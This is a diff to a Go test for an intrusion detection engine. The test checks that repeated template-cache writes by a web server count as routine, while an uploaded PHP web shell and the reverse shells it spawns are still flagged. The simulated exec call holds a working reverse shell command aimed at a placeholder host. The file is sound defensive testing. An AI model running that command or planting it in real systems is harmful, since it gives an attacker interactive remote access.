@@ -206,3 +206,37 @@ func TestRoutineNotWhenFlaggedActFollows(t *testing.T) {
 		t.Errorf("an earlier run is %s, want low", sev)
 	}
 }
+
+// TestRoutineServerWrites: scripts the web server itself writes again and
+// again (a template cache) are routine; a script it stores once for a
+// client, then serves to spawn a reverse shell, is not.
+func TestRoutineServerWrites(t *testing.T) {
+	s := newSim(t, Options{})
+	s.webServer()
+	var cache []*detect.Finding
+	for i := 0; i < 30; i++ {
+		w := s.write(float64(1+10*i), worker2, parser.KindFileWrite, fmt.Sprintf("/var/www/html/cache/tpl_%08x.php", 0xa1b2c3d0+i))
+		cache = append(cache, s.find(w, detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root"))
+	}
+	s.http(200, "POST", "/upload.php", 200, "203.0.113.5", "curl/8.0")
+	shell := s.find(s.write(200, worker1, parser.KindFileWrite, "/var/www/html/uploads/x.php"), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
+	for i := 0; i < 5; i++ {
+		at := 205 + float64(i)*20
+		s.http(at, "GET", "/uploads/x.php", 200, "203.0.113.5", "curl/8.0")
+		s.find(s.exec(at, shellOf(3000+i, worker1, "/var/www/html/uploads"), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
+			detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	}
+	s.touch(300, worker1)
+	r := s.build()
+	for _, f := range cache[:20] { // established before the upload at 200 s
+		if sev := severityIn(t, r, f); sev != detect.SeverityLow {
+			t.Errorf("template cache write at %s is %s, want low", f.Time, sev)
+		}
+	}
+	if g := routineOf(r, cache[0]); g == nil || g.Template != "write /var/www/html/cache/<file>.php" || g.Server != "php-fpm8.2 pid 100" {
+		t.Errorf("routine of the cache writes = %+v", g)
+	}
+	if sev := severityIn(t, r, shell); sev != detect.SeverityHigh {
+		t.Errorf("the uploaded web shell is %s, want high", sev)
+	}
+}
